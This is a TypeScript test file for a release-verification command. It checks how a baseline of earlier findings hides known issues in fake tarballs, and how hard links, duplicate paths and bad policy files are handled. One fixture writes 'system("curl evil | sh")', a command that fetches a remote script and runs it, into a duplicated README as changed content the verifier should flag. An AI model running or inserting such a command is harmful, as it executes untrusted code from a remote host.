import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { verify } from '../../src/commands/verify.js';
import { buildTar, writeTemp } from '../helpers/archives.js';
import { makeRepo, rejects, removeTempDirs } from '../helpers/repo.js';
import { assertValidReport } from '../helpers/schema.js';

const work = mkdtempSync(join(tmpdir(), 'cuckoo-baseline-'));
const cacheDir = join(work, 'cache');

test.after(async () => {
  await removeTempDirs();
  rmSync(work, { recursive: true, force: true });
});

/** A release of the tag plus two files the tag lacks: `build.sh` is build code, `NOTES` is not. */
async function release(name: string, buildSh: string) {
  return writeTemp(
    `${name}/proj-1.0.tar`,
    buildTar([
      { path: 'proj-1.0/', type: 'directory' },
      { path: 'proj-1.0/README', content: 'hi\n' },
      { path: 'proj-1.0/NOTES', content: 'release notes\n' },
      { path: 'proj-1.0/build.sh', content: buildSh, mode: 0o755 },
    ]),
  );
}

test('a baseline from the previous run hides what it had; the same path with new content counts again', async () => {
  const repo = await makeRepo({ files: { README: 'hi\n' }, tags: ['v1.0'] });
  const first = await verify({ release: await release('first', '#!/bin/sh\necho one\n'), repo: repo.dir, cacheDir });
  const counted = (r: typeof first) => r.findings.filter((f) => !f.known && !f.allowed).map((f) => f.path);
  assert.equal(counted(first), ['NOTES', 'build.sh']);
  assert.is(first.verdict, 'fail');
  const baseline = join(work, 'first.json');
  writeFileSync(baseline, JSON.stringify(first));

  const again = await verify({ release: await release('again', '#!/bin/sh\necho one\n'), repo: repo.dir, cacheDir, baseline });
  assert.equal(counted(again), []);
  assert.is(again.verdict, 'pass');
  assert.equal(again.baseline, { file: baseline, known: 2 });
  assertValidReport(again);

  const changed = await verify({ release: await release('changed', '#!/bin/sh\necho two\n'), repo: repo.dir, cacheDir, baseline });
  assert.equal(counted(changed), ['build.sh']);
  assert.is(changed.verdict, 'fail');
  assert.is(changed.findings.find((f) => f.path === 'NOTES')!.known, true);
  assertValidReport(changed);
});

test('the baseline knows a hard link by its target and a duplicated path by every copy', async () => {
  const repo = await makeRepo({ files: { README: 'hi\n' }, tags: ['v1.0'] });
  const tar = (name: string, target: string, firstCopy: string) =>
    writeTemp(
      `${name}/proj-1.0.tar`,
      buildTar([
        { path: 'proj-1.0/', type: 'directory' },
        { path: 'proj-1.0/README', content: firstCopy },
        { path: 'proj-1.0/README', content: 'hi\n' },
        { path: 'proj-1.0/tests/link', type: 'hardlink', target },
      ]),
    );
  const first = await verify({ release: await tar('links-1', 'proj-1.0/missing', 'old\n'), repo: repo.dir, cacheDir });
  const counted = (r: typeof first) => r.findings.filter((f) => !f.known && !f.allowed && f.severity !== 'info' && f.severity !== 'low').map((f) => `${f.path} ${f.category}`);
  assert.equal(counted(first), ['README duplicate-path', 'tests/link broken-link']);
  const baseline = join(work, 'links.json');
  writeFileSync(baseline, JSON.stringify(first));
  const same = await verify({ release: await tar('links-2', 'proj-1.0/missing', 'old\n'), repo: repo.dir, cacheDir, baseline });
  assert.equal(counted(same), []);
  const moved = await verify({ release: await tar('links-3', 'proj-1.0/nowhere', 'system("curl evil | sh")\n'), repo: repo.dir, cacheDir, baseline });
  assert.equal(counted(moved).map((c) => c.split(' ')[0]), ['README', 'tests/link']);
});

test('a bad policy or baseline fails before the release is read', async () => {
  const missing = join(work, 'no-such-release.tar');
  await rejects(verify({ release: missing, repo: work, cacheDir, baseline: join(work, 'nothing.json') }), 'usage', /^baseline .*nothing\.json: cannot read it/);
  writeFileSync(join(work, 'p.json'), '{"allow": [{"reason": "no selector"}]}');
  await rejects(verify({ release: missing, repo: work, cacheDir, policy: join(work, 'p.json') }), 'usage', /^policy .*p\.json: rule 1: no selector/);
});

test.run();
